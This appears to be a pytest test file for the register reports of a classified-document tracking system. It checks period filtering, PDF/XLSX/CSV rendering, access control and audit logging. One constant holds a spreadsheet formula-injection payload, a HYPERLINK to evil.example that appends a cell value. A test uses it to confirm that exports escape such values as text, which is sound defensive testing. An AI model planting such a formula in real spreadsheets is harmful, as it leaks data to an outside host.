"""The registers of RULES §4 (issue 19) from a register made with the real services on both databases: each register's
rows are exactly the period's ledger events of its kinds (events before and after the period left out), each renders
as PDF, XLSX and CSV and reads back (pypdfium2, openpyxl, csv) with the same rows, the heading, the page numbers, the
signature lines and the ledger head; who may read which register, and each read in the audit log."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pypdfium2 as pdfium
import pytest
from sqlalchemy import select
from tests_support import Clock, approve, invoke, use_cli_demo

from tracker.demo import badge, place
from tracker.domain import CarrierKind, utc_iso
from tracker.reports import registers
from tracker.reports.registers import Printed
from tracker.schema import Carrier, Event, Refusal
from tracker.services import approvals, circulation, destruction, endoflife, incidents, personnel, registry
from tracker.services.common import Refused, Signed
from tracker.store import Store

SHELF, SHELF2, SAFE = place("BJ", "R2C1S1"), place("BJ", "R2C1S2"), place("BJ", "R1SAFE1")
TZ = ZoneInfo("Asia/Shanghai")
FIRST, LAST = date(2026, 11, 26), date(2026, 11, 28)  # the clock starts 2026-11-25 10:00 in Beijing
SINCE, UNTIL = datetime(2026, 11, 26, tzinfo=TZ), datetime(2026, 11, 29, tzinfo=TZ)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
_docs = iter(range(100, 10_000))


def _register(store: Store, clerk: Signed, level: str = "secret", kind: str = "paper", title: str = "测试文件",
              location: str | None = None) -> str:
    secret = level in ("top_secret", "secret", "confidential")
    return registry.register(store.uow(), clerk, registry.CarrierInput(
        location=location or (SAFE if level == "top_secret" else SHELF), classification=level, kind=kind,
        period="10y" if secret else None, scope="办公室;法规处;技术处" if secret else None,
        copy_number=1 if secret else None, copy_total=3 if secret else None, title=title,
        doc_number=f"BJ密〔2026〕{next(_docs)}号", issuer="市保密局"))


def build(store: Store, people: dict[str, Signed], clock: Clock) -> dict[str, Any]:
    """A day before the period, the period's work through every service, and a day after it."""
    clerk, approver = people["clerk"], people["approver"]
    a, b, lost = (_register(store, clerk) for _ in range(3))
    ts = _register(store, clerk, "top_secret")
    reclass = _register(store, clerk)
    away, back = (_register(store, clerk, "internal") for _ in range(2))
    d1, d2 = _register(store, clerk), _register(store, clerk, "confidential", kind="usb_drive")
    circulation.check_out(store.uow(), clerk, a, people["reader_important"],
                          approval_id=approve(store, approver, "loan", a))
    circulation.check_in(store.uow(), clerk, a)  # before the period: in no register below
    clock.advance(days=2)  # 2026-11-27 10:00 local: the period
    people = {k: Signed(v.badge, clock()) for k, v in people.items()}
    clerk, approver = people["clerk"], people["approver"]
    hostile = _register(store, clerk, "internal", title=HOSTILE)
    media = _register(store, clerk, "confidential", kind="usb_drive")
    laptop = _register(store, clerk, "internal", kind="laptop")
    endoflife.certify(store.uow(), clerk, laptop, "国产某型笔记本", "认证〔2026〕88号")  # R-110 on the media ledger
    copies = registry.copy(store.uow(), clerk, a, 2, approve(store, approver, "copy", a, copies=2))
    circulation.check_out(store.uow(), clerk, b, people["reader_important"],
                          approval_id=approve(store, approver, "loan", b))
    circulation.handover(store.uow(), people["courier"], [b], people["reader_important"], people["courier"])
    circulation.handover(store.uow(), people["courier"], [b], people["courier"], people["reader_important"])
    circulation.check_in(store.uow(), clerk, b)
    circulation.carry_out(store.uow(), clerk, ts, people["reader_core"], clock() + timedelta(hours=6),
                          approve(store, approver, "carry_out", ts, grantee=badge("reader_core")),
                          companion=people["courier"], destination="市保密局")
    circulation.check_in(store.uow(), clerk, ts)
    registry.reclassify(store.uow(), people["officer"], reclass, "confidential", "5y", None,
                        approve(store, approver, "reclassify", reclass))
    endoflife.transfer_out(store.uow(), clerk, [away], "市保密局", "王五", "HZ-2026-001", approver)
    endoflife.return_to_issuer(store.uow(), clerk, [back], "李四", "HZ-1", unit="上级机关")
    incidents.report_missing(store.uow(), clerk, lost, note="清查未见")
    incidents.found(store.uow(), clerk, lost, SHELF2)
    incidents.report(store.uow(), clerk, "seal_broken", "信封封口破损", place=SHELF2)  # an incident with no carrier
    change = personnel.request_change(store.uow(), people["admin"], badge("reader_general"), roles=["courier"])
    approvals.decide(store.uow(), approver, change, True)
    personnel.change_person(store.uow(), people["admin"], badge("reader_general"), roles=["courier"],
                            approval_id=change)
    personnel.start_departure(store.uow(), people["officer"], badge("reader_important"))
    personnel.mark_departed(store.uow(), people["officer"], badge("reader_important"))
    batch = destruction.new(store.uow(), clerk, "2026年第4季度销毁")
    destruction.add(store.uow(), clerk, batch, [d1])
    destruction.retire(store.uow(), clerk, [d2], "接口损坏", batch_id=batch)  # 报废: on the media ledger
    sub = destruction.submit(store.uow(), clerk, batch, clock() + timedelta(days=3))
    for who in ("approver", "approver2"):
        if approvals.decide(store.uow(), people[who], sub, True) == "granted":
            break
    destruction.scan(store.uow(), clerk, batch, [d1, d2])
    destruction.complete(store.uow(), clerk, batch, [people["officer"], people["auditor"]],
                         {"paper": "shredding", "usb_drive": "physical"}, "本单位保密办销毁室")
    clock.advance(days=3)  # 2026-11-30: after the period
    late = Signed(clerk.badge, clock())
    circulation.check_out(store.uow(), late, a, Signed(badge("reader_core"), clock()),
                          approval_id=approve(store, people["approver"], "loan", a, grantee=badge("reader_core")))
    _register(store, late)
    return {"a": a, "b": b, "ts": ts, "lost": lost, "reclass": reclass, "away": away, "back": back, "d1": d1,
            "d2": d2, "hostile": hostile, "media": media, "copies": copies, "laptop": laptop}


def _events(store: Store, types: tuple[str, ...]) -> list[Any]:
    """The period's events of these types, read straight from the ledger (not through the registers' query)."""
    with store.uow(readonly=True) as uow:
        return list(uow.session.execute(
            select(Event.seq, Event.carrier).where(Event.type.in_(types), Event.at >= utc_iso(SINCE),
                                                   Event.at < utc_iso(UNTIL)).order_by(Event.seq)))


def _read(store: Store, who: Signed, name: str, lang: str = "zh", **kw: Any) -> Printed:
    return registers.read(store.uow(), who, name, FIRST, LAST, lang=lang, **kw)


def _col(p: Printed, key: str) -> list[Any]:
    i = [c.key for c in p.register.columns].index(key)
    return [r[i] for r in p.rows]


def test_every_register_lists_exactly_the_periods_events(store: Store, people: dict[str, Signed],
                                                         clock: Clock) -> None:
    made = build(store, people, clock)
    officer = Signed(people["officer"].badge, clock())
    with store.uow(readonly=True) as uow:
        head = uow.ledger.head()
        media_kinds = {c.code for c in uow.session.execute(select(Carrier)).unique().scalars()
                       if CarrierKind(c.kind).is_storage_medium}
    got = {name: _read(store, officer, name) for name in registers.REGISTERS}
    for name, printed in got.items():
        reg = printed.register
        period = _events(store, reg.events)
        seqs = {e.seq for e in period}
        assert set(_col(printed, "seq")) <= seqs, name  # nothing from before or after the period
        assert (printed.head_seq, printed.head_hash) == head, name
        if name in ("carriers", "circulation", "borrowing", "copies", "carry_out", "handover", "destruction",
                    "transfers", "incidents"):
            assert _col(printed, "seq") == [e.seq for e in period], name  # every one of them, in ledger order
    carriers = got["carriers"]
    assert made["hostile"] in _col(carriers, "code") and made["a"] not in _col(carriers, "code")  # a: registered before
    assert set(_col(carriers, "code")) >= {*made["copies"], made["away"], made["back"]}
    assert _col(got["media"], "code") == [e.carrier for e in _events(store, got["media"].register.events)
                                          if e.carrier in media_kinds]
    assert set(_col(got["media"], "code")) == {made["media"], made["d2"], made["laptop"]}
    assert any(r[3] == made["laptop"] and "认证〔2026〕88号" in r[4] for r in got["media"].rows)
    assert next(r[4] for r in got["media"].rows if r[3] == made["d2"]).startswith("接口损坏")
    # borrowing: the period's one loan, with its approvers, reading place and return
    (loan,) = got["borrowing"].rows
    keys = [c.key for c in got["borrowing"].register.columns]
    row = dict(zip(keys, loan, strict=True))
    assert row["code"] == made["b"] and badge("reader_important") in row["borrower"]
    assert badge("approver") in row["approvers"] and isinstance(row["back"], datetime)
    assert _col(got["copies"], "original") == [made["a"], made["a"]]
    assert _col(got["copies"], "code") == made["copies"]
    (trip,) = got["carry_out"].rows
    assert trip[2] == made["ts"] and badge("courier") in trip[6] and trip[7] == "市保密局"
    assert [(badge("reader_important") in g, badge("courier") in t) for g, t in
            zip(_col(got["handover"], "giver"), _col(got["handover"], "taker"), strict=True)] == [(True, True),
                                                                                                   (False, False)]
    assert _col(got["destruction"], "code") == [made["d1"], made["d2"]]
    assert _col(got["transfers"], "code") == [made["reclass"], made["away"], made["back"]]
    # the loss, the incident it opened, the recovery, and an incident of another kind with no carrier
    assert _col(got["incidents"], "code") == [made["lost"]] * 3 + [""]
    assert "seal_broken: 信封封口破损" in _col(got["incidents"], "note")
    # people: the role change and the departure, not the PIN changes; the clear-back check and the departure
    assert [badge("reader_general") in p for p in _col(got["personnel"], "person")] == [True, False, False]
    assert all(badge("reader_important") in p for p in _col(got["clear_back"], "person"))
    assert _col(got["clear_back"], "count") == [0, 0] and len(got["clear_back"].rows) == 2
    # 绝密: everyone who had it in the period — the custodian and the companion of the carry-out
    assert _col(got["disclosure"], "code") == [made["ts"], made["ts"]]
    assert [p.split()[-1] for p in _col(got["disclosure"], "person")] == [badge("reader_core"), badge("courier")]
    # a unit: only events someone of it took part in
    tech = _read(store, officer, "disclosure", unit="技术处")
    assert [p.split()[-1] for p in _col(tech, "person")] == [badge("reader_core"), badge("courier")]
    assert _read(store, officer, "borrowing", unit="技术处").rows == []


def _pdf_pages(path: Path) -> list[str]:
    pdf = pdfium.PdfDocument(str(path))
    try:
        return [pdf[i].get_textpage().get_text_range() for i in range(len(pdf))]
    finally:
        pdf.close()


def _pdf_text(path: Path) -> tuple[int, str]:
    texts = _pdf_pages(path)
    for n, text in enumerate(texts, 1):  # every page says which it is and how many there are
        assert f"第 {n} 页" in text and f"共 {len(texts)} 页" in text, (n, text[-200:])
    return len(texts), "\n".join(texts)


def test_each_register_renders_as_pdf_xlsx_and_csv_with_its_rows(sqlite_store: Store, people: dict[str, Signed],
                                                                 clock: Clock, tmp_path: Path) -> None:
    store = sqlite_store
    build(store, people, clock)
    auditor = Signed(people["auditor"].badge, clock())
    for name in registers.REGISTERS:
        printed = _read(store, auditor, name)
        assert printed.rows, f"{name}: the scenario should give every register rows"
        seqs = [str(s) for s in _col(printed, "seq")]
        head = f"{printed.head_seq}:{printed.head_hash}"
        # PDF: every row's sequence number and carrier or person, the heading, page n of m, signatures, the head
        pages, text = _pdf_text(registers.write(printed, "pdf", tmp_path / f"{name}.pdf"))
        flat = text.replace("\r", "").replace("\n", " ")
        assert printed.register.zh in flat and "单位：全部" in flat and "2026-11-26 — 2026-11-28" in flat
        assert head in flat and pages >= 1
        assert all(f"{label}（签字）" in flat for label in printed.signature_labels()), name
        words = set(flat.split())
        assert all(s in words for s in seqs), name
        # XLSX: typed cells, frozen header, the same rows; the heading and signatures on the second sheet
        wb = openpyxl.load_workbook(registers.write(printed, "xlsx", tmp_path / f"{name}.xlsx"))
        ws = wb.worksheets[0]
        assert ws.freeze_panes == "A2" and [c.value for c in ws[1]] == printed.headers
        body = list(ws.iter_rows(min_row=2, values_only=True))
        assert [r[0] for r in body] == _col(printed, "seq")
        times = [i for i, c in enumerate(printed.register.columns) if c.kind == "time"]
        assert all(isinstance(r[i], datetime) for r in body for i in times if r[i] is not None)
        assert "第 &P 页 共 &N 页" in ws.oddFooter.center.text
        about = [[c for c in r if c is not None] for r in wb.worksheets[1].iter_rows(values_only=True)]
        assert ["台账链头", head] in about and ["单位", "全部"] in about
        # CSV: a BOM for Excel, the heading, the header row, the rows, the signature lines
        raw = registers.write(printed, "csv", tmp_path / f"{name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        start = lines.index(printed.headers)
        assert ["台账链头", head] in lines[:start]
        assert [r[0] for r in lines[start + 1:start + 1 + len(seqs)]] == seqs
        assert lines[start + 1 + len(seqs)] == [] and lines[-1][0].endswith("（签字）")
    # the borrowing register carries a loan application slip per loan, with its signature boxes
    borrowing = _read(store, auditor, "borrowing")
    _pages, text = _pdf_text(registers.write(borrowing, "pdf", tmp_path / "borrowing.pdf"))
    assert text.count("申请借阅单") == len(borrowing.rows) and "借阅部门负责人签字" in text and "批准领导签字" in text


def test_english_headers_and_local_times(sqlite_store: Store, people: dict[str, Signed], clock: Clock,
                                         tmp_path: Path) -> None:
    build(sqlite_store, people, clock)
    printed = _read(sqlite_store, Signed(people["officer"].badge, clock()), "borrowing", lang="en")
    assert printed.headers[:3] == ["Seq.", "Out", "Carrier"]
    lines = list(csv.reader(io.StringIO(registers.write(printed, "csv", tmp_path / "b.csv").read_text("utf-8-sig"))))
    row = lines[lines.index(printed.headers) + 1]
    assert row[1] == "2026-11-27 10:00"  # the check-out at 02:00 UTC, in the policy's zone (Beijing)
    assert ["Unit", "all units"] in lines


def test_a_title_written_as_a_formula_stays_text(sqlite_store: Store, people: dict[str, Signed], clock: Clock,
                                                 tmp_path: Path) -> None:
    made = build(sqlite_store, people, clock)
    printed = _read(sqlite_store, Signed(people["clerk"].badge, clock()), "carriers")
    ws = openpyxl.load_workbook(registers.write(printed, "xlsx", tmp_path / "c.xlsx")).worksheets[0]
    codes = [c.value for c in ws["D"]]
    cell = ws.cell(row=codes.index(made["hostile"]) + 1, column=7)
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    text = registers.write(printed, "csv", tmp_path / "c.csv").read_text("utf-8-sig")
    (line,) = [r for r in csv.reader(io.StringIO(text)) if made["hostile"] in r]
    assert line[6] == "'" + HOSTILE
    assert all(not c.startswith(("=", "+", "-", "@")) for r in csv.reader(io.StringIO(text)) for c in r if c)


def test_who_may_read_which_register_and_every_read_is_audited(store: Store, people: dict[str, Signed]) -> None:
    for who in ("clerk", "officer", "auditor"):
        _read(store, people[who], "borrowing")
    for who, name in (("clerk", "personnel"), ("clerk", "disclosure"), ("clerk", "clear_back"),
                      ("reader_core", "borrowing"), ("admin", "carriers"), ("approver", "copies")):
        with pytest.raises(Refused) as err:
            _read(store, people[who], name)
        assert err.value.rules == ["R-25"], (who, name)
    for who in ("officer", "auditor"):
        _read(store, people[who], "disclosure")
    with store.uow(readonly=True) as uow:
        log = list(uow.session.execute(select(Refusal.actor, Refusal.kind, Refusal.rules, Refusal.detail)
                                       .order_by(Refusal.id)))
    reads = [(r.actor, json.loads(r.detail)["register"]) for r in log if r.kind == "export"]
    assert reads == [(badge("clerk"), "borrowing"), (badge("officer"), "borrowing"), (badge("auditor"), "borrowing"),
                     (badge("officer"), "disclosure"), (badge("auditor"), "disclosure")]
    refused = [(r.actor, r.rules) for r in log if r.kind == "refused"]
    assert (badge("clerk"), "R-25") in refused and len(refused) == 6


def test_bad_periods_names_and_units_are_refused_clearly(store: Store, people: dict[str, Signed]) -> None:
    from tracker.domain import DomainError
    from tracker.services.common import NotFound

    with pytest.raises(DomainError) as backwards:
        registers.read(store.uow(), people["officer"], "copies", LAST, FIRST)
    assert "before it starts" in backwards.value.en and "早于开始日期" in backwards.value.zh
    with pytest.raises(DomainError) as unknown:
        registers.read(store.uow(), people["officer"], "bribes", FIRST, LAST)
    assert "borrowing" in unknown.value.en and "台账" in unknown.value.zh
    with pytest.raises(NotFound):
        registers.read(store.uow(), people["officer"], "copies", FIRST, LAST, unit="不存在处")


def test_register_command_writes_each_format(cli_demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    use_cli_demo(cli_demo, tmp_path, monkeypatch, TRACKER_OPERATOR=badge("auditor"))
    today = date.today()
    span = ["--from", (today - timedelta(days=30)).isoformat(), "--to", (today + timedelta(days=1)).isoformat()]
    code, output = invoke("register", "borrowing", *span, "--format", "csv", "--out", "b.csv", "--json")
    assert code == 0, output
    assert json.loads(output)["rows"] > 0 and (tmp_path / "b.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    code, output = invoke("register", "copies", *span, "--format", "xlsx", "--lang", "en")
    assert code == 0 and "Copy register" in output
    assert next(tmp_path.glob("copies_*.xlsx")).stat().st_size > 0
    code, _ = invoke("register", "disclosure", *span, "--out", "d.pdf", TRACKER_OPERATOR=badge("clerk"))
    assert code == 3 and not (tmp_path / "d.pdf").exists()
    assert invoke("register", "copies", "--from", "soon", "--to", "later")[0] == 2


def test_the_sheet_writer_types_dates_and_keeps_aware_times_as_text(tmp_path: Path) -> None:
    from tracker.reports import sheets

    local_time, day = datetime(2026, 11, 27, 10, 0), date(2026, 11, 27)
    aware = datetime(2026, 11, 27, 2, 0, tzinfo=ZoneInfo("UTC"))
    path = sheets.write_xlsx(tmp_path / "t.xlsx", [
        sheets.Sheet("台账", [[1, local_time, day, aware, " padded ", True, None, 2.5]], header=["n", "t", "d", "a"],
                     widths={"B": 18.0}, footer="第 &P 页 共 &N 页", page_header="A && B", landscape=True),
        sheets.Sheet("台账", [["second sheet of the same name"]]),
    ])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["台账", "台账1"]
    ws = wb["台账"]
    assert [c.value for c in ws[2]] == [1, local_time, datetime(2026, 11, 27), str(aware), " padded ", True, None, 2.5]
    assert ws["B2"].is_date and ws["A1"].font.b and ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == 18.0 and ws.page_setup.orientation == "landscape"
    assert ws.oddHeader.center.text == "A && B" and ws.print_title_rows == "$1:$1"
    text = sheets.to_csv(["h"], [["x"]])
    assert text == "h\nx\n"
    lines = list(csv.reader(io.StringIO(sheets.write_csv(tmp_path / "t.csv", ["h"], [["=1+1"]],
                                                         preamble=[["title"]], epilogue=[["sign"]])
                                        .read_text("utf-8-sig"))))
    assert lines == [["title"], ["h"], ["'=1+1"], ["sign"]]
